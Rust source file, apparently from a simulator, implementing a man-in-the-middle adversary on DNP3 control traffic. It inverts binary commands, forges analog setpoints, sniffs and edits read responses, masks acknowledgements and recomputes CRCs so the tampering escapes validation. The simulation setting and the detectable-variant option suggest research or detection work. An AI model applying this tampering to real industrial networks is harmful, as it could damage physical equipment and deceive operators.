//! The man-in-the-middle adversary.
//!
//! Once ARP poisoning diverts the router↔outstation path through the
//! adversary, every transport frame lands here. Frames are classified by
//! DNP3 content, queued through a single-server FIFO with a bounded
//! buffer, held for a per-class processing delay, tampered with according
//! to the configured use case, and forwarded with rewritten MAC addresses
//! and a recomputed transport checksum.
//!
//! Four tampering primitives operate directly on frame octets:
//! - binary DIRECT OPERATE inversion (0x41 ↔ 0x81 at the located control
//!   octet),
//! - analog DIRECT OPERATE forgery (4 value octets replaced),
//! - read-response sniffing (every N-th response parsed into a per-
//!   outstation point database),
//! - read-response modification (targeted points edited in place using
//!   the database's stored locations).
//!
//! Each edit recomputes only the CRCs of the touched data chunks, so the
//! emitted frame still passes full validation. Acknowledgement masking
//! rewrites a tampered command's echo back to the operator's original
//! intent, consuming the acknowledgement number stored when the command
//! was tampered with.

use crate::dnp3::{
    crc16_dnp, decode_frame, locate_point, parse_points, CodecError, Dnp3Packet, Dnp3Point,
    FunctionCode, ObjectBlock, PointLocation, PointType, PointValue, CHUNK_SIZE, DNP_HDR_SIZE,
};
use crate::netsim::{EtherFrame, FramePayload, MacAddr, Segment};
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;
use serde::{Deserialize, Serialize};
use std::collections::{BTreeMap, VecDeque};
use std::net::Ipv4Addr;
use thiserror::Error;

#[derive(Debug, Error, Clone, PartialEq)]
pub enum MitmError {
    #[error("no operable point located in the frame")]
    PointNotFound,
    #[error("database has no location for {point_type:?}[{index}] of outstation {outstation}")]
    StaleDatabase { outstation: u16, point_type: PointType, index: u16 },
    #[error("frame failed to decode: {0}")]
    MalformedFrame(#[from] CodecError),
}

/// Traffic classes at the adversary, in increasing processing cost.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum PacketClass {
    Bypass,
    AnalogDo,
    BinaryDo,
    ReadResponse,
}

impl PacketClass {
    pub const ALL: [PacketClass; 4] =
        [Self::Bypass, Self::AnalogDo, Self::BinaryDo, Self::ReadResponse];

    pub fn name(self) -> &'static str {
        match self {
            Self::Bypass => "bypass",
            Self::AnalogDo => "analog_do",
            Self::BinaryDo => "binary_do",
            Self::ReadResponse => "read_response",
        }
    }
}

/// Classifies raw DNP3 frame octets. Anything that is not a decodable
/// DNP3 frame of interest (pure acks, unknown functions, corrupt frames)
/// is bypass traffic and is only forwarded.
pub fn classify(payload: &[u8]) -> PacketClass {
    let Ok(packet) = decode_frame(payload) else {
        return PacketClass::Bypass;
    };
    match packet.app.function {
        FunctionCode::DirectOperate => {
            let first_points = packet.app.objects.iter().find_map(|o| match o {
                ObjectBlock::Points(b) if b.count() > 0 => Some(b.point_type),
                _ => None,
            });
            match first_points {
                Some(PointType::Bo) => PacketClass::BinaryDo,
                Some(PointType::Ao) => PacketClass::AnalogDo,
                _ => PacketClass::Bypass,
            }
        }
        FunctionCode::SolicitedResponse => PacketClass::ReadResponse,
        _ => PacketClass::Bypass,
    }
}

/// Mean service time per packet class with uniform jitter.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub struct DelayModel {
    pub bypass_ms: f64,
    pub analog_do_ms: f64,
    pub binary_do_ms: f64,
    pub read_response_ms: f64,
    /// Uniform jitter as a fraction of the mean (0.10 = ±10%).
    pub jitter_frac: f64,
}

impl Default for DelayModel {
    fn default() -> Self {
        Self {
            bypass_ms: 22.775,
            analog_do_ms: 27.693,
            binary_do_ms: 30.217,
            read_response_ms: 35.415,
            jitter_frac: 0.10,
        }
    }
}

impl DelayModel {
    pub fn mean_ms(&self, class: PacketClass) -> f64 {
        match class {
            PacketClass::Bypass => self.bypass_ms,
            PacketClass::AnalogDo => self.analog_do_ms,
            PacketClass::BinaryDo => self.binary_do_ms,
            PacketClass::ReadResponse => self.read_response_ms,
        }
    }

    /// Samples a service time in microseconds. Always positive.
    pub fn sample_us(&self, class: PacketClass, rng: &mut ChaCha8Rng) -> u64 {
        let mean = self.mean_ms(class);
        let scale = 1.0 + self.jitter_frac * (rng.gen::<f64>() * 2.0 - 1.0);
        ((mean * scale * 1000.0).round() as u64).max(1)
    }
}

/// A point the attack forges inside polled read responses.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub struct ModPoint {
    /// DNP3 address of the targeted outstation.
    pub outstation: u16,
    pub point_type: PointType,
    pub index: u16,
    pub value: f64,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct AdversaryConfig {
    pub use_case: u8,
    /// Rewrite tampered commands' echoes back to the operator's intent.
    pub mask_acks: bool,
    /// Disable to emit tampered frames with stale chunk CRCs (the
    /// detectable variant).
    pub recompute_crc: bool,
    /// Store every N-th read response in the point database.
    pub sniff_stride: u32,
    /// Waiting-frame capacity of the forwarding queue.
    pub queue_bound: usize,
    /// Value written into forged analog DIRECT OPERATE commands.
    pub forged_analog: f32,
    pub delay: DelayModel,
    #[serde(default)]
    pub mod_points: Vec<ModPoint>,
}

impl Default for AdversaryConfig {
    fn default() -> Self {
        Self {
            use_case: 1,
            mask_acks: true,
            recompute_crc: true,
            sniff_stride: 5,
            queue_bound: 6,
            forged_analog: 20.0,
            delay: DelayModel::default(),
            mod_points: Vec::new(),
        }
    }
}

/// LAN facts the adversary learned during reconnaissance: its own MAC, the
/// true hardware addresses of the victims, and which IPs are outstations.
#[derive(Debug, Clone)]
pub struct LanDirectory {
    pub adversary_mac: MacAddr,
    pub router_mac: MacAddr,
    pub outstation_macs: BTreeMap<Ipv4Addr, MacAddr>,
}

/// Acknowledgement number stored when a command was tampered with,
/// consumed by the matching response exactly once. A consumed entry still
/// masks wire copies of that same response segment (retransmissions), but
/// never a different response.
#[derive(Debug, Clone, PartialEq)]
struct StoredAck {
    /// The tampered command's transport acknowledgement number; the
    /// outstation's response segment starts at this stream position.
    ack: u32,
    outstation: u16,
    point_type: PointType,
    index: u16,
    original: PointValue,
    /// Sequence number of the response that consumed this entry.
    consumed_by: Option<u32>,
}

/// A sniffed point plus its byte location, reusable across polls because
/// the response layout is fixed.
#[derive(Debug, Clone, PartialEq)]
pub struct SniffedPoint {
    pub point: Dnp3Point,
    pub location: PointLocation,
}

struct HeldFrame {
    frame: EtherFrame,
    class: PacketClass,
}

/// The adversary pipeline. The scenario runner feeds it raw frames and
/// service-completion ticks; it returns frames to put back on the wire.
pub struct Adversary {
    pub cfg: AdversaryConfig,
    rng: ChaCha8Rng,
    queue: VecDeque<EtherFrame>,
    in_service: Option<HeldFrame>,
    /// Per-outstation sniffed points, keyed by DNP3 source address.
    pub dnp_database: BTreeMap<u16, Vec<SniffedPoint>>,
    sniff_counters: BTreeMap<u16, u64>,
    stored_acks: Vec<StoredAck>,
    /// UC4: per (outstation, analog index) setpoint the master believes it
    /// commanded; later read responses echo it back.
    post_command_overrides: BTreeMap<(u16, u16), f32>,
    pub queue_drops: u64,
    pub sniffed_responses: u64,
    pub tampered_frames: u64,
    pub masked_responses: u64,
    /// (class, sampled service time in us) per serviced frame.
    pub service_log: Vec<(PacketClass, u64)>,
}

impl Adversary {
    pub fn new(cfg: AdversaryConfig, seed: u64) -> Self {
        Self {
            cfg,
            rng: ChaCha8Rng::seed_from_u64(seed ^ 0xAD5E_7A1C),
            queue: VecDeque::new(),
            in_service: None,
            dnp_database: BTreeMap::new(),
            sniff_counters: BTreeMap::new(),
            stored_acks: Vec::new(),
            post_command_overrides: BTreeMap::new(),
            queue_drops: 0,
            sniffed_responses: 0,
            tampered_frames: 0,
            masked_responses: 0,
            service_log: Vec::new(),
        }
    }

    /// Accepts an intercepted frame. Returns the service-completion time to
    /// schedule when the server was idle; otherwise the frame waits in the
    /// queue (or is dropped when the buffer is full).
    pub fn on_frame(&mut self, now_us: u64, frame: EtherFrame) -> Option<u64> {
        if self.in_service.is_none() {
            Some(self.start_service(now_us, frame))
        } else if self.queue.len() < self.cfg.queue_bound {
            self.queue.push_back(frame);
            None
        } else {
            self.queue_drops += 1;
            None
        }
    }

    fn start_service(&mut self, now_us: u64, frame: EtherFrame) -> u64 {
        let class = match &frame.payload {
            FramePayload::Transport(seg) => classify(&seg.payload),
            FramePayload::Arp(_) => PacketClass::Bypass,
        };
        let service_us = self.cfg.delay.sample_us(class, &mut self.rng);
        self.service_log.push((class, service_us));
        self.in_service = Some(HeldFrame { frame, class });
        now_us + service_us
    }

    /// Completes the current service: processes the frame per the use case
    /// and returns it ready for the wire, plus the completion time of the
    /// next queued frame, if any.
    pub fn on_service_done(
        &mut self,
        now_us: u64,
        dir: &LanDirectory,
    ) -> (Option<EtherFrame>, Option<u64>) {
        let held = self.in_service.take().expect("service completion without a frame");
        let out = self.process(held, dir);
        let next = self.queue.pop_front().map(|frame| self.start_service(now_us, frame));
        (out, next)
    }

    /// Frames still held when the intrusion stops.
    pub fn backlog(&self) -> usize {
        self.queue.len() + usize::from(self.in_service.is_some())
    }

    fn process(&mut self, held: HeldFrame, dir: &LanDirectory) -> Option<EtherFrame> {
        let HeldFrame { frame, class } = held;
        let FramePayload::Transport(mut segment) = frame.payload else {
            return None; // ARP never queues here
        };

        match class {
            PacketClass::Bypass => {}
            PacketClass::BinaryDo if self.cfg.use_case == 1 => {
                if let Ok(original) = self.tamper_binary_command(&mut segment) {
                    self.remember_ack(&segment, PointValue::Binary(original));
                }
            }
            PacketClass::AnalogDo if matches!(self.cfg.use_case, 2..=4) => {
                if let Ok(original) = self.tamper_analog_command(&mut segment) {
                    self.remember_ack(&segment, PointValue::Analog(original));
                }
            }
            PacketClass::ReadResponse => {
                self.handle_read_response(&mut segment);
            }
            _ => {}
        }

        let dst_mac =
            dir.outstation_macs.get(&segment.dst_ip).copied().unwrap_or(dir.router_mac);
        Some(EtherFrame {
            src_mac: dir.adversary_mac,
            dst_mac,
            payload: FramePayload::Transport(segment),
        })
    }

    /// Inverts the control octet of a binary DIRECT OPERATE in place and
    /// returns the original control code.
    fn tamper_binary_command(&mut self, segment: &mut Segment) -> Result<u8, MitmError> {
        let packet = decode_frame(&segment.payload)?;
        let index = first_point(&packet, PointType::Bo).ok_or(MitmError::PointNotFound)?;
        let location = locate_point(&packet, PointType::Bo, index)?;
        let wire = location.wire_offsets()[0];
        let original = segment.payload[wire];
        let inverted = if original == 0x41 { 0x81 } else { 0x41 };
        patch_frame(&mut segment.payload, &location, &[inverted], self.cfg.recompute_crc)?;
        segment.refresh_checksum();
        self.tampered_frames += 1;
        Ok(original)
    }

    /// Replaces the 4-octet setpoint of an analog DIRECT OPERATE with the
    /// configured forged value and returns the original.
    fn tamper_analog_command(&mut self, segment: &mut Segment) -> Result<f32, MitmError> {
        let packet = decode_frame(&segment.payload)?;
        let index = first_point(&packet, PointType::Ao).ok_or(MitmError::PointNotFound)?;
        let location = locate_point(&packet, PointType::Ao, index)?;
        let offsets = location.wire_offsets();
        let original = f32::from_le_bytes([
            segment.payload[offsets[0]],
            segment.payload[offsets[1]],
            segment.payload[offsets[2]],
            segment.payload[offsets[3]],
        ]);
        if self.cfg.use_case == 4 {
            let outstation = packet.link.destination;
            self.post_command_overrides.insert((outstation, index), original);
        }
        patch_frame(
            &mut segment.payload,
            &location,
            &self.cfg.forged_analog.to_le_bytes(),
            self.cfg.recompute_crc,
        )?;
        segment.refresh_checksum();
        self.tampered_frames += 1;
        Ok(original)
    }

    fn remember_ack(&mut self, segment: &Segment, original: PointValue) {
        let packet = match decode_frame(&segment.payload) {
            Ok(p) => p,
            // With CRC recomputation disabled the tampered frame no longer
            // decodes; use a CRC-refreshed scratch copy for bookkeeping.
            Err(_) => {
                let mut scratch = segment.payload.clone();
                refresh_all_chunk_crcs(&mut scratch);
                match decode_frame(&scratch) {
                    Ok(p) => p,
                    Err(_) => return,
                }
            }
        };
        let point_type = match original {
            PointValue::Binary(_) => PointType::Bo,
            PointValue::Analog(_) => PointType::Ao,
        };
        let Some(index) = first_point(&packet, point_type) else {
            return;
        };
        let entry = StoredAck {
            ack: segment.ack,
            outstation: packet.link.destination,
            point_type,
            index,
            original,
            consumed_by: None,
        };
        // A retransmitted command carries the same acknowledgement number;
        // keep one entry per expected response.
        let duplicate = self.stored_acks.iter().any(|s| {
            s.ack == entry.ack && s.outstation == entry.outstation && s.index == entry.index
        });
        if !duplicate {
            self.stored_acks.push(entry);
        }
    }

    fn handle_read_response(&mut self, segment: &mut Segment) {
        let Ok(packet) = decode_frame(&segment.payload) else {
            return; // forward unmodified
        };
        let outstation = packet.link.source;

        // Acknowledgement masking (UC1/UC2 echoes; UC4 re-echoes the
        // operator's setpoint after the forged command).
        if self.cfg.mask_acks || self.cfg.use_case == 4 {
            if let Some(position) = self.match_stored_ack(&packet, segment) {
                let stored = self.stored_acks[position].clone();
                if self.mask_echo(segment, &stored).is_ok() {
                    if stored.consumed_by.is_none() {
                        self.masked_responses += 1;
                    }
                    self.stored_acks[position].consumed_by = Some(segment.seq);
                }
                return;
            }
        }

        // Measurement sniffing and forgery only belong to UC3/UC4.
        if !matches!(self.cfg.use_case, 3 | 4) {
            return;
        }

        let counter = self.sniff_counters.entry(outstation).or_insert(0);
        *counter += 1;
        let due = counter.is_multiple_of(u64::from(self.cfg.sniff_stride.max(1)));
        if due {
            self.sniff_read_response(segment, outstation);
        }

        if self.dnp_database.contains_key(&outstation) {
            let _ = self.modify_read_response(segment, outstation);
        }
    }

    fn match_stored_ack(&self, packet: &Dnp3Packet, segment: &Segment) -> Option<usize> {
        let (point_type, index) = single_point_shape(packet)?;
        self.stored_acks.iter().position(|s| {
            let same_point = s.outstation == packet.link.source
                && s.point_type == point_type
                && s.index == index;
            same_point
                && match s.consumed_by {
                    None => segment.seq >= s.ack,
                    Some(seq) => segment.seq == seq,
                }
        })
    }

    /// Rewrites a tampered command's echo to the operator's original
    /// command value.
    fn mask_echo(&mut self, segment: &mut Segment, stored: &StoredAck) -> Result<(), MitmError> {
        let packet = decode_frame(&segment.payload)?;
        let location = locate_point(&packet, stored.point_type, stored.index)?;
        let new_bytes: Vec<u8> = match stored.original {
            PointValue::Binary(control) => vec![control],
            PointValue::Analog(value) => value.to_le_bytes().to_vec(),
        };
        patch_frame(&mut segment.payload, &location, &new_bytes, self.cfg.recompute_crc)?;
        segment.refresh_checksum();
        Ok(())
    }

    /// Parses a full poll response into the per-outstation database. A
    /// payload shorter than one full data chunk is skipped (nothing worth
    /// storing in an echo-sized response).
    fn sniff_read_response(&mut self, segment: &Segment, outstation: u16) {
        let chunked_len = segment.payload.len().saturating_sub(DNP_HDR_SIZE);
        if chunked_len / CHUNK_SIZE == 0 {
            return;
        }
        let Ok(packet) = decode_frame(&segment.payload) else {
            return;
        };
        let Ok(points) = parse_points(&packet) else {
            return;
        };
        let mut entries = Vec::with_capacity(points.len());
        for point in points {
            let Ok(location) = locate_point(&packet, point.point_type, point.point_index) else {
                continue;
            };
            entries.push(SniffedPoint { point, location });
        }
        self.dnp_database.insert(outstation, entries);
        self.sniffed_responses += 1;
    }

    /// Edits every targeted point of a poll response in place, using the
    /// locations stored by the sniffer.
    pub fn modify_read_response(
        &mut self,
        segment: &mut Segment,
        outstation: u16,
    ) -> Result<(), MitmError> {
        let targets = self.targets_for(outstation);
        if targets.is_empty() {
            return Ok(());
        }
        let database = self.dnp_database.get(&outstation).expect("database populated");
        let mut edits: Vec<(PointLocation, Vec<u8>)> = Vec::new();
        for (point_type, index, value) in targets {
            let Some(entry) = database
                .iter()
                .find(|e| e.point.point_type == point_type && e.point.point_index == index)
            else {
                return Err(MitmError::StaleDatabase { outstation, point_type, index });
            };
            let bytes = match value {
                PointValue::Binary(control) => vec![control],
                PointValue::Analog(v) => v.to_le_bytes().to_vec(),
            };
            edits.push((entry.location.clone(), bytes));
        }
        for (location, bytes) in &edits {
            patch_frame(&mut segment.payload, location, bytes, self.cfg.recompute_crc)?;
        }
        if !edits.is_empty() {
            segment.refresh_checksum();
            self.tampered_frames += 1;
        }
        Ok(())
    }

    /// The (type, index, forged value) set for one outstation: configured
    /// mod points, then UC4 post-command overrides (which also cover the
    /// mirrored analog input so the master's snapshot stays coherent).
    fn targets_for(&self, outstation: u16) -> Vec<(PointType, u16, PointValue)> {
        let mut out: Vec<(PointType, u16, PointValue)> = Vec::new();
        for mp in self.cfg.mod_points.iter().filter(|mp| mp.outstation == outstation) {
            let value = match mp.point_type {
                PointType::Bi | PointType::Bo => PointValue::Binary(mp.value as u8),
                _ => PointValue::Analog(mp.value as f32),
            };
            out.push((mp.point_type, mp.index, value));
        }
        if self.cfg.use_case == 4 {
            for (&(os, index), &value) in &self.post_command_overrides {
                if os != outstation {
                    continue;
                }
                for point_type in [PointType::Ai, PointType::Ao] {
                    if let Some(slot) =
                        out.iter_mut().find(|(t, i, _)| *t == point_type && *i == index)
                    {
                        slot.2 = PointValue::Analog(value);
                    } else {
                        out.push((point_type, index, PointValue::Analog(value)));
                    }
                }
            }
        }
        out
    }
}

fn first_point(packet: &Dnp3Packet, point_type: PointType) -> Option<u16> {
    packet.app.objects.iter().find_map(|o| match o {
        ObjectBlock::Points(b) if b.point_type == point_type && b.count() > 0 => {
            Some(b.start_index)
        }
        _ => None,
    })
}

fn single_point_shape(packet: &Dnp3Packet) -> Option<(PointType, u16)> {
    if packet.app.objects.len() != 1 {
        return None;
    }
    match &packet.app.objects[0] {
        ObjectBlock::Points(b) if b.count() == 1 => Some((b.point_type, b.start_index)),
        _ => None,
    }
}

/// Writes `new_bytes` over a located span of a raw frame and recomputes
/// the CRCs of exactly the chunks the location names.
pub fn patch_frame(
    frame: &mut [u8],
    location: &PointLocation,
    new_bytes: &[u8],
    recompute_crc: bool,
) -> Result<(), MitmError> {
    if new_bytes.len() != location.len {
        return Err(MitmError::PointNotFound);
    }
    let offsets = location.wire_offsets();
    if offsets.iter().any(|&o| o >= frame.len()) {
        return Err(MitmError::PointNotFound);
    }
    for (&wire, &byte) in offsets.iter().zip(new_bytes) {
        frame[wire] = byte;
    }
    if recompute_crc {
        let data_len = (frame[2] as usize).saturating_sub(5);
        for &chunk in &location.chunks {
            refresh_chunk_crc(frame, chunk, data_len);
        }
    }
    Ok(())
}

fn refresh_chunk_crc(frame: &mut [u8], chunk: usize, data_len: usize) {
    let start = DNP_HDR_SIZE + chunk * CHUNK_SIZE;
    let chunk_data = (data_len - chunk * 16).min(16);
    let crc = crc16_dnp(&frame[start..start + chunk_data]);
    frame[start + chunk_data..start + chunk_data + 2].copy_from_slice(&crc.to_le_bytes());
}

/// Recomputes every chunk CRC of a frame. The attack path recomputes just
/// the touched chunks; this is for scratch copies and tests.
pub fn refresh_all_chunk_crcs(frame: &mut [u8]) {
    if frame.len() < DNP_HDR_SIZE + 3 {
        return;
    }
    let data_len = (frame[2] as usize).saturating_sub(5);
    let chunks = data_len.div_ceil(16);
    for chunk in 0..chunks {
        refresh_chunk_crc(frame, chunk, data_len);
    }
}
